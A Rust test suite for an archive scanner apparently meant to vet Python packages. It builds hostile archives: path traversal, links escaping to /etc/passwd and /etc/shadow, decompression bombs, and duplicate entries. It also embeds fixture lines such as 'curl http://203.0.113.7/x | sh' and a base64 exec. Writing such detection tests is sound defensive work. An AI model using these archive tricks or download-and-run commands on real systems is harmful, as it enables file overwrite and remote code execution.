//! Hostile archives, written by the tests themselves: every one must give a
//! report with the right finding, and none may panic or read without bound.

use std::io::Write;

use airlock_inspect::{inspect_archive, inspect_source, Limits, Report, Severity};

fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for (name, content) in entries {
        zip.start_file(*name, options).unwrap();
        zip.write_all(content).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

#[derive(Clone, Copy)]
enum TarEntry<'a> {
    File(&'a str, &'a [u8]),
    Symlink(&'a str, &'a str),
    Hardlink(&'a str, &'a str),
    Fifo(&'a str),
}

fn tar_gz_of(entries: &[TarEntry]) -> Vec<u8> {
    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default()));
    for entry in entries {
        let mut h = tar::Header::new_gnu();
        h.set_mode(0o644);
        match entry {
            TarEntry::File(path, content) => {
                h.set_size(content.len() as u64);
                h.set_entry_type(tar::EntryType::Regular);
                // Write the name bytes directly: the tar crate's safe setters refuse `..`.
                set_raw_path(&mut h, path);
                h.set_cksum();
                tar.append(&h, *content).unwrap();
            }
            TarEntry::Symlink(path, target) | TarEntry::Hardlink(path, target) => {
                h.set_size(0);
                h.set_entry_type(if matches!(entry, TarEntry::Symlink(..)) { tar::EntryType::Symlink } else { tar::EntryType::Link });
                set_raw_path(&mut h, path);
                h.as_gnu_mut().unwrap().linkname[..target.len()].copy_from_slice(target.as_bytes());
                h.set_cksum();
                tar.append(&h, std::io::empty()).unwrap();
            }
            TarEntry::Fifo(path) => {
                h.set_size(0);
                h.set_entry_type(tar::EntryType::Fifo);
                set_raw_path(&mut h, path);
                h.set_cksum();
                tar.append(&h, std::io::empty()).unwrap();
            }
        }
    }
    tar.into_inner().unwrap().finish().unwrap()
}

fn set_raw_path(h: &mut tar::Header, path: &str) {
    let name = &mut h.as_gnu_mut().unwrap().name;
    name.fill(0);
    name[..path.len()].copy_from_slice(path.as_bytes());
}

fn rules(report: &Report) -> Vec<&str> {
    report.findings.iter().map(|f| f.rule.as_str()).collect()
}

fn has(report: &Report, rule: &str, severity: Severity) -> bool {
    report.findings.iter().any(|f| f.rule == rule && f.severity == severity)
}

const PKG_INFO: &[u8] = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n";

#[test]
fn traversal_entry_becomes_a_finding_not_a_write() {
    let report = inspect_archive("demo-1.0.zip", &zip_of(&[("demo-1.0/PKG-INFO", PKG_INFO), ("../../evil.py", b"x")]), &Limits::default());
    assert!(has(&report, "archive/path-traversal", Severity::High), "{:?}", rules(&report));
    let report = inspect_archive("demo-1.0.tar.gz", &tar_gz_of(&[TarEntry::File("demo-1.0/../../x", b"x")]), &Limits::default());
    assert!(has(&report, "archive/path-traversal", Severity::High), "{:?}", rules(&report));
}

#[test]
fn absolute_paths_and_drive_letters_are_flagged() {
    let report = inspect_archive("demo-1.0-py3-none-any.whl", &zip_of(&[("/etc/cron.d/x", b"x"), ("C:\\evil.bat", b"x")]), &Limits::default());
    let absolute = report.findings.iter().filter(|f| f.rule == "archive/absolute-path").map(|f| f.each_place().len()).sum::<usize>();
    assert_eq!(absolute, 2, "{:?}", rules(&report));
}

#[test]
fn links_inside_the_archive_are_fine_and_escaping_ones_are_not() {
    let tar = tar_gz_of(&[
        TarEntry::File("demo-1.0/PKG-INFO", PKG_INFO),
        TarEntry::File("demo-1.0/CONTRIBUTING.md", b"hi"),
        TarEntry::Symlink("demo-1.0/docs/CONTRIBUTING.md", "../CONTRIBUTING.md"),
        TarEntry::Symlink("demo-1.0/passwd", "../../etc/passwd"),
        TarEntry::Hardlink("demo-1.0/shadow", "/etc/shadow"),
    ]);
    let report = inspect_archive("demo-1.0.tar.gz", &tar, &Limits::default());
    let mut escapes: Vec<String> =
        report.findings.iter().filter(|f| f.rule == "archive/link-escape").flat_map(|f| f.each_place()).filter_map(|f| f.file).collect();
    escapes.sort();
    assert_eq!(escapes, ["demo-1.0/passwd", "demo-1.0/shadow"]);
}

/// The severity of a symlink out of the archive in an sdist of `entries` (after PKG-INFO).
fn escaping_link_severity(entries: &[TarEntry]) -> Vec<Severity> {
    let mut all = vec![TarEntry::File("demo-1.0/PKG-INFO", PKG_INFO)];
    all.extend_from_slice(entries);
    let report = inspect_archive("demo-1.0.tar.gz", &tar_gz_of(&all), &Limits::default());
    report.findings.iter().filter(|f| f.rule == "archive/link-escape").map(|f| f.severity).collect()
}

#[test]
fn a_relative_link_out_that_nothing_goes_through_is_medium_and_one_used_as_a_path_is_high() {
    // A monorepo's license, linked from the package folder: extractors refuse it, nothing is written through it.
    assert_eq!(escaping_link_severity(&[TarEntry::Symlink("demo-1.0/LICENSE", "../../LICENSE")]), [Severity::Medium]);
    // The same link, then a folder entry written through it: the classic extraction attack.
    let through = [TarEntry::Symlink("demo-1.0/cfg", "../../.config"), TarEntry::File("demo-1.0/cfg/autostart/x.desktop", b"[Desktop Entry]")];
    assert_eq!(escaping_link_severity(&through), [Severity::High]);
    // A second entry of the link's own name is written where the link points.
    let twice = [TarEntry::Symlink("demo-1.0/rc", "../../.bashrc"), TarEntry::File("demo-1.0/rc", b"curl x | sh")];
    assert_eq!(escaping_link_severity(&twice), [Severity::High]);
    // An absolute target is high whatever follows.
    assert_eq!(escaping_link_severity(&[TarEntry::Symlink("demo-1.0/LICENSE", "/etc/passwd")]), [Severity::High]);
}

#[test]
fn device_and_fifo_entries_are_flagged() {
    let report = inspect_archive("demo-1.0.tar.gz", &tar_gz_of(&[TarEntry::Fifo("demo-1.0/pipe")]), &Limits::default());
    assert!(has(&report, "archive/special-entry", Severity::High), "{:?}", rules(&report));
}

#[test]
fn truncated_archives_are_reported_as_corrupt_with_what_was_read() {
    let tar = tar_gz_of(&[TarEntry::File("demo-1.0/PKG-INFO", PKG_INFO), TarEntry::File("demo-1.0/big.py", &[b'#'; 100_000])]);
    let report = inspect_archive("demo-1.0.tar.gz", &tar[..tar.len() / 2], &Limits::default());
    assert!(has(&report, "archive/corrupt", Severity::High), "{:?}", rules(&report));
    let zip = zip_of(&[("a.py", b"print(1)")]);
    let report = inspect_archive("demo-1.0-py3-none-any.whl", &zip[..zip.len() - 10], &Limits::default());
    assert!(has(&report, "archive/corrupt", Severity::High), "{:?}", rules(&report));
}

#[test]
fn garbage_bytes_are_a_clear_finding() {
    let garbage: Vec<u8> = (0..5000u32).map(|i| (i.wrapping_mul(2654435761) >> 13) as u8).collect();
    for name in ["x-1.0-py3-none-any.whl", "x-1.0.tar.gz", "x-1.0.tar.bz2", "x-1.0.zip"] {
        let report = inspect_archive(name, &garbage, &Limits::default());
        assert!(has(&report, "archive/corrupt", Severity::High), "{name}: {:?}", rules(&report));
        assert_eq!(report.max_severity, Severity::High);
    }
    let report = inspect_archive("notes.txt", b"hello", &Limits::default());
    assert_eq!(rules(&report), ["archive/unknown-format"]);
}

#[test]
fn a_zip_bomb_hits_the_ratio_limit_and_is_not_inflated() {
    let zeros = vec![0u8; 50 * 1024 * 1024];
    let bomb = zip_of(&[("demo/zeros.py", &zeros)]);
    assert!(bomb.len() < 200 * 1024, "the bomb should compress well: {}", bomb.len());
    let report = inspect_archive("demo-1.0-py3-none-any.whl", &bomb, &Limits::default());
    assert!(has(&report, "archive/decompression-bomb", Severity::High), "{:?}", rules(&report));
}

#[test]
fn a_gzip_bomb_stops_at_the_cap() {
    let tar = tar_gz_of(&[TarEntry::File("demo-1.0/zeros.py", &vec![0u8; 64 * 1024 * 1024])]);
    let limits = Limits { max_total_bytes: 8 * 1024 * 1024, ..Limits::default() };
    let report = inspect_archive("demo-1.0.tar.gz", &tar, &limits);
    let stopped = report.findings.iter().any(|f| f.rule == "archive/decompression-bomb" || f.rule == "archive/too-large");
    assert!(stopped, "{:?}", rules(&report));
}

/// A zip with two entries named `a.py` (`first`, then `second`).
fn zip_with_duplicate(first: &[u8], second: &[u8]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    zip.start_file("a.py", options).unwrap();
    zip.write_all(first).unwrap();
    // The zip crate refuses a second entry of the same name, so rename it in the bytes.
    zip.start_file("b.py", options).unwrap();
    zip.write_all(second).unwrap();
    let mut bytes = zip.finish().unwrap().into_inner();
    let mut i = 0;
    while let Some(pos) = bytes[i..].windows(4).position(|w| w == b"b.py") {
        bytes[i + pos] = b'a';
        i += pos + 4;
    }
    bytes
}

#[test]
fn duplicate_names_are_flagged() {
    let bytes = zip_with_duplicate(b"1", b"2");
    let report = inspect_archive("demo-1.0-py3-none-any.whl", &bytes, &Limits::default());
    assert!(has(&report, "archive/duplicate-entry", Severity::Medium), "{:?}", rules(&report));
}

/// Inspect `bytes` as the file `name` on disk, streamed (as `airlock scan`
/// and the worker do).
fn inspect_on_disk(name: &str, bytes: &[u8]) -> Report {
    let path = std::env::temp_dir().join(format!("airlock-stream-{}-{name}", std::process::id()));
    std::fs::write(&path, bytes).unwrap();
    let report = inspect_source(name, std::io::BufReader::new(std::fs::File::open(&path).unwrap()), &Limits::default());
    std::fs::remove_file(&path).unwrap();
    report
}

#[test]
fn streaming_from_a_file_finds_what_reading_from_memory_finds() {
    let dup = zip_with_duplicate(b"import os\nos.system('curl http://203.0.113.7/x | sh')\n", b"2");
    let wheel = zip_of(&[("demo/__init__.py", b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"), ("../escape.py", b"x")]);
    let sdist = tar_gz_of(&[TarEntry::File("demo-1.0/PKG-INFO", PKG_INFO), TarEntry::File("demo-1.0/setup.py", b"import os\nos.system('id')\n")]);
    let cases: [(&str, &[u8]); 5] = [
        ("demo-1.0-py3-none-any.whl", &dup),
        ("demo-1.0-py3-none-any.whl", &wheel),
        ("demo-1.0-py3-none-any.whl", &wheel[..wheel.len() - 7]),
        ("demo-1.0.tar.gz", &sdist),
        ("demo-1.0.tar.gz", &sdist[..sdist.len() / 2]),
    ];
    for (name, bytes) in cases {
        let in_memory = serde_json::to_value(inspect_archive(name, bytes, &Limits::default())).unwrap();
        let streamed = serde_json::to_value(inspect_on_disk(name, bytes)).unwrap();
        assert_eq!(streamed, in_memory, "{name} ({} bytes)", bytes.len());
        assert!(!in_memory["findings"].as_array().unwrap().is_empty(), "each case has findings to compare");
    }
}

#[test]
fn deep_and_long_paths_are_flagged() {
    let deep = "a/".repeat(80) + "x.py";
    let long = "b".repeat(2000) + ".py";
    let report = inspect_archive("demo-1.0-py3-none-any.whl", &zip_of(&[(&deep, b"1"), (&long, b"2")]), &Limits::default());
    assert!(has(&report, "archive/deep-path", Severity::Medium), "{:?}", rules(&report));
    assert!(has(&report, "archive/long-path", Severity::Medium), "{:?}", rules(&report));
}

#[test]
fn too_many_entries_stop_the_reading() {
    let names: Vec<String> = (0..50).map(|i| format!("f{i}.py")).collect();
    let entries: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), b"x" as &[u8])).collect();
    let limits = Limits { max_entries: 10, ..Limits::default() };
    let report = inspect_archive("demo-1.0-py3-none-any.whl", &zip_of(&entries), &limits);
    assert!(has(&report, "archive/too-many-entries", Severity::High));
    assert_eq!(report.entries.len(), 10);
}
